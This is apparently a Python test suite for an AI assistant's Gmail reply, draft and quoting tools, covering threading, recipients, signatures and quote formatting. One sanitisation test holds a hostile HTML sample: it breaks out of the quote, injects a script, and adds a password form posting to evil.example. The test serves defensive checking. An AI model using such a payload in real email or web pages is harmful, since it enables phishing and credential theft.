"""Replies stay in their conversation, as in Gmail's own Reply button."""
import base64
from email import message_from_bytes
from email.policy import default

from app.tools import invoke, review
from tests.gmail_helpers import sandbox_message


def q3_latest(ctx):
    return invoke("gmail_search", ctx, {"query": "subject:(Q3 report) from:alice", "limit": 1})["messages"][0]


def test_reply_lands_in_same_thread_with_reference_headers(ctx, sandbox):
    parent = q3_latest(ctx)
    original = sandbox_message(sandbox, parent["id"])

    sent = invoke("gmail_send", ctx, {"reply_to_message_id": parent["id"], "body": "Tuesday at 10:00 works."})

    mine = sandbox_message(sandbox, sent["id"])
    assert sent["thread"] == parent["thread"] == mine["threadId"]
    assert mine["In-Reply-To"] == original["Message-ID"]
    assert mine["References"].split() == original["References"].split() + [original["Message-ID"]]
    thread = invoke("gmail_read", ctx, {"thread_id": parent["thread"]})["messages"]
    assert thread[-1]["id"] == sent["id"]


def test_reply_has_a_single_re_prefix(ctx, sandbox):
    parent = q3_latest(ctx)
    assert parent["subject"] == "Re: Q3 report"

    sent = invoke("gmail_send", ctx, {"reply_to_message_id": parent["id"], "subject": "RE: Re: Q3 report", "body": "ok"})
    assert sandbox_message(sandbox, sent["id"])["Subject"] == "Re: Q3 report"


def test_reply_goes_to_the_sender_by_default(ctx, sandbox):
    sent = invoke("gmail_send", ctx, {"reply_to_message_id": q3_latest(ctx)["id"], "body": "Thanks!"})
    assert sandbox_message(sandbox, sent["id"])["To"] == "Alice Chen <alice@acme.example>"


def test_reply_honours_reply_to(ctx, sandbox):
    carol = invoke("gmail_search", ctx, {"query": "subject:renewal"})["messages"][0]
    sent = invoke("gmail_send", ctx, {"reply_to_message_id": carol["id"], "body": "A question on clause 4."})
    assert sandbox_message(sandbox, sent["id"])["To"] == "Partner Legal <legal@partner.example>"


def test_reply_to_own_message_goes_to_its_recipients(ctx, sandbox):
    mine = invoke("gmail_search", ctx, {"query": "in:sent subject:dinner"})["messages"][-1]
    sent = invoke("gmail_send", ctx, {"reply_to_message_id": mine["id"], "body": "Friday still on?"})
    assert sandbox_message(sandbox, sent["id"])["To"] == "Sam Rivera <sam.rivera@gmail.example>"


def test_a_reply_to_a_note_to_self_goes_to_oneself(ctx, sandbox):
    note = invoke("gmail_send", ctx, {"to": ["alex@acme.example"], "subject": "Ideas", "body": "Offsite in Lyon?"})

    reply = invoke("gmail_send", ctx, {"reply_to_message_id": note["id"], "body": "Or Annecy."})

    assert sandbox_message(sandbox, reply["id"])["To"] == "alex@acme.example"
    assert reply["thread"] == note["thread"]


def test_reply_draft_waits_in_the_thread(ctx, sandbox):
    parent = q3_latest(ctx)
    draft = invoke("gmail_create_draft", ctx, {"reply_to_message_id": parent["id"], "body": "Draft answer"})

    saved = sandbox_message(sandbox, draft["id"])
    assert saved["threadId"] == parent["thread"]
    assert saved["labelIds"] == ["DRAFT"]
    assert saved["Subject"] == "Re: Q3 report"
    assert {"id": draft["draft_id"], "messageId": draft["id"]} in sandbox.state()["gmail"]["drafts"]


def test_reply_under_another_subject_still_lands_in_the_thread(ctx, sandbox):
    parent = q3_latest(ctx)

    sent = invoke("gmail_send", ctx, {"reply_to_message_id": parent["id"], "subject": "Meeting time", "body": "Tuesday?"})

    assert sent["thread"] == parent["thread"]
    assert sandbox_message(sandbox, sent["id"])["Subject"] == "Re: Q3 report"


def test_reply_all_reaches_everyone_but_me_and_keeps_cc_as_cc(ctx, sandbox):
    sent = invoke("gmail_send", ctx, {"reply_to_message_id": q3_latest(ctx)["id"], "reply_all": True, "body": "Thanks both."})
    sent = sandbox_message(sandbox, sent["id"])
    assert (sent["To"], sent["Cc"]) == ("Alice Chen <alice@acme.example>", "Bob Stone <bob@acme.example>")


def test_reply_all_adding_someone_still_reaches_everyone_once(ctx, sandbox):
    sent = invoke("gmail_send", ctx, {"reply_to_message_id": q3_latest(ctx)["id"], "reply_all": True, "body": "Looping in Dana.",
                                      "to": ["dana@acme.example"], "cc": ["BOB@acme.example"]})
    sent = sandbox_message(sandbox, sent["id"])
    assert (sent["To"], sent["Cc"]) == ("dana@acme.example, Alice Chen <alice@acme.example>", "BOB@acme.example")


def test_a_draft_may_wait_without_recipients(ctx, sandbox):
    draft = invoke("gmail_create_draft", ctx, {"subject": "Ideas", "body": "to sort later"})
    assert draft["summary"] == "Saved a draft “Ideas” to no one yet."
    assert sandbox_message(sandbox, draft["id"])["labelIds"] == ["DRAFT"]


def test_a_draft_in_a_thread_reads_as_a_draft_not_as_sent_mail(ctx):
    parent = q3_latest(ctx)
    draft = invoke("gmail_create_draft", ctx, {"reply_to_message_id": parent["id"], "body": "Draft answer"})

    thread = invoke("gmail_read", ctx, {"thread_id": parent["thread"]})["messages"]

    assert [m["id"] for m in thread if m.get("draft")] == [draft["id"]]


def test_a_reply_in_other_scripts_goes_out_in_its_thread(ctx, sandbox):
    # A reply is a multipart upload (its thread id rides along): every byte of it must still arrive.
    original = invoke("gmail_search", ctx, {"query": "from:alice", "limit": 1})["messages"][0]

    sent = invoke("gmail_send", ctx, {"reply_to_message_id": original["id"], "body": "À demain ✓ — 明日また"})

    assert sent["thread"] == original["thread"]
    assert invoke("gmail_read", ctx, {"message_id": sent["id"]})["messages"][0]["body"]["text"].startswith("À demain ✓ — 明日また\n\n-- \n")


def test_reply_all_sends_no_blind_copy_to_someone_it_already_reaches(ctx):
    card = review("gmail_send", ctx, {"reply_to_message_id": q3_latest(ctx)["id"], "reply_all": True, "body": "Thanks.",
                                      "bcc": ["bob@acme.example", "carol@partner.example"]})
    assert card.args["bcc"] == ["carol@partner.example"]


def test_sent_mail_carries_the_gmail_signature_and_its_card_shows_it(ctx):
    mail = {"to": ["bob@acme.example"], "subject": "Lunch", "body": "Free at noon?"}

    card = review("gmail_send", ctx, mail)
    plain = invoke("gmail_send", ctx, mail)
    rich = invoke("gmail_send", ctx, {**mail, "body": "<p>Free at <b>noon</b>?</p>", "html": True})

    assert card.preview["signature"] == "Alex Martin\nOperations lead, Acme Corp\n+33 1 23 45 67 89"
    assert invoke("gmail_read", ctx, {"message_id": plain["id"]})["messages"][0]["body"]["text"] == (
        "Free at noon?\n\n-- \nAlex Martin\nOperations lead, Acme Corp\n+33 1 23 45 67 89")
    raw = ctx.service("gmail").users().messages().get(userId="me", id=rich["id"], format="raw").execute()["raw"]
    html = message_from_bytes(base64.urlsafe_b64decode(raw), policy=default).get_body(("html",)).get_content()
    assert '<div class="gmail_signature">-- <br><div>Alex Martin<br>Operations lead' in html


def test_a_reply_all_to_mail_sent_to_my_alias_does_not_go_to_me(ctx):
    mail = (b"From: Bob Stone <bob@acme.example>\r\nTo: alex.martin@acme.example\r\nCc: carol@partner.example\r\n"
            b"Subject: Offsite\r\n\r\nWho is coming?\r\n")
    body = {"raw": base64.urlsafe_b64encode(mail).decode(), "labelIds": ["INBOX"]}
    message_id = ctx.service("gmail").users().messages().insert(userId="me", body=body).execute()["id"]

    card = review("gmail_send", ctx, {"reply_to_message_id": message_id, "reply_all": True, "body": "Me!"})

    assert (card.args["to"], card.args["cc"]) == (["Bob Stone <bob@acme.example>"], ["carol@partner.example"])


def sent_parts(ctx, message_id: str):
    raw = ctx.service("gmail").users().messages().get(userId="me", id=message_id, format="raw").execute()["raw"]
    message = message_from_bytes(base64.urlsafe_b64decode(raw), policy=default)
    html = message.get_body(("html",))
    return message.get_body(("plain",)).get_content(), html.get_content() if html else None


def delivered(ctx, mail: bytes) -> str:
    body = {"raw": base64.urlsafe_b64encode(mail).decode(), "labelIds": ["INBOX"]}
    return ctx.service("gmail").users().messages().insert(userId="me", body=body).execute()["id"]


def test_a_reply_quotes_the_original_under_it_dated_in_the_persons_time_zone(ctx):
    message_id = delivered(ctx, "From: Søren Holm <soren@acme.example>\r\nTo: alex@acme.example\r\nSubject: Budget\r\n"
                                "Date: Mon, 14 Sep 2026 07:30:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                                "Numbers attached.\r\n\r\nSøren\r\n".encode())
    reply = {"reply_to_message_id": message_id, "body": "Thanks, looks right."}

    card = review("gmail_send", ctx, reply)
    text, _ = sent_parts(ctx, invoke("gmail_send", ctx, reply)["id"])

    attribution = "On Mon, 14 Sep 2026 at 09:30, Søren Holm <soren@acme.example> wrote:"  # 07:30 UTC in Paris
    assert card.preview["quoted"] == attribution
    text = text.replace("\r\n", "\n")
    assert text.startswith("Thanks, looks right.\n\n-- \nAlex Martin")  # the reply and its signature, then the quote
    assert text.endswith(f"\n\n{attribution}\n> Numbers attached.\n>\n> Søren\n")


def test_an_html_reply_quotes_the_original_html_in_a_block_mail_programs_fold_away(ctx):
    original = (
        "From: robin@partner.example\r\nTo: alex@acme.example\r\nSubject: Plan\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        '<html><head><style>p{color:red}</style></head><body><p>The <b>plan</b></p><img src="cid:logo@x"></body></html>\r\n'
    ).encode()
    message_id = delivered(ctx, original)

    sent = invoke("gmail_send", ctx, {"reply_to_message_id": message_id, "body": "<p>Agreed.</p>", "html": True})
    text, markup = sent_parts(ctx, sent["id"])

    assert markup.startswith("<p>Agreed.</p>")
    assert '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">robin@partner.example wrote:<br></div>' in markup
    assert '<blockquote class="gmail_quote"' in markup and "<p>The <b>plan</b></p></blockquote>" in markup
    assert "<style>" not in markup and "cid:" not in markup  # no wrapper, no image the reply does not carry
    assert text.replace("\r\n", "\n").endswith("-- \nAlex Martin\nOperations lead, Acme Corp\n+33 1 23 45 67 89\n\n"
                                                "robin@partner.example wrote:\n> The plan\n")


def test_a_plain_original_is_quoted_in_an_html_reply_as_escaped_lines(ctx):
    message_id = delivered(ctx, b"From: robin@partner.example\r\nTo: alex@acme.example\r\nSubject: Sizes\r\n\r\n"
                                b"a < b\r\nc & d\r\n")

    sent = invoke("gmail_send", ctx, {"reply_to_message_id": message_id, "body": "<p>Noted.</p>", "html": True})

    assert "a &lt; b<br>c &amp; d</blockquote>" in sent_parts(ctx, sent["id"])[1]


def test_a_date_beyond_the_calendar_does_not_stop_the_reply(ctx):
    message_id = delivered(ctx, b"From: robin@partner.example\r\nTo: alex@acme.example\r\nSubject: Odd\r\n"
                                b"Date: Fri, 31 Dec 9999 23:59:00 -1200\r\n\r\nHello\r\n")

    card = review("gmail_send", ctx, {"reply_to_message_id": message_id, "body": "Hi."})

    assert card.preview["quoted"] == "robin@partner.example wrote:"


def test_the_quoted_html_cannot_close_the_quote_early_or_carry_scripts_and_forms(ctx):
    hostile = ('<p>Hi</p></blockquote></div><script>steal()</script><form action="https://evil.example">'
               '<input name="password"></form><a href="javascript:steal()">x</a>')
    original = ("From: robin@partner.example\r\nTo: alex@acme.example\r\nSubject: Hi\r\nMIME-Version: 1.0\r\n"
                "Content-Type: text/html; charset=utf-8\r\n\r\n" + hostile + "\r\n").encode()
    message_id = delivered(ctx, original)

    sent = invoke("gmail_send", ctx, {"reply_to_message_id": message_id, "body": "<p>No.</p>", "html": True})
    markup = sent_parts(ctx, sent["id"])[1]

    quote = markup[markup.index('<blockquote class="gmail_quote"'):]
    assert quote.count("</blockquote>") == 1 and quote.rstrip().endswith("</blockquote></div>")
    assert "<script" not in markup and "steal()" not in markup and "<form" not in markup and "<input" not in markup


def test_the_quote_is_the_mails_own_text_not_that_of_an_email_attached_to_it():
    from app.tools.mail_mime import b64url
    from app.tools.mail_quote import quote_of

    def leaf(mime_type, text):
        return {"mimeType": mime_type, "filename": "", "headers": [], "body": {"data": b64url(text.encode())}}

    # An attached email whose parts Gmail lists inline, without an attachment id of its own.
    attached = {"mimeType": "message/rfc822", "filename": "", "headers": [], "body": {},
                "parts": [leaf("text/html", "<p>Attached words</p>")]}
    payload = {"mimeType": "multipart/mixed", "headers": [], "body": {},
               "parts": [leaf("text/plain", "Robin's own words"), attached]}

    quote = quote_of(payload, {"from": "robin@partner.example"}, "UTC")

    assert quote.text == "Robin's own words" and quote.markup == ""
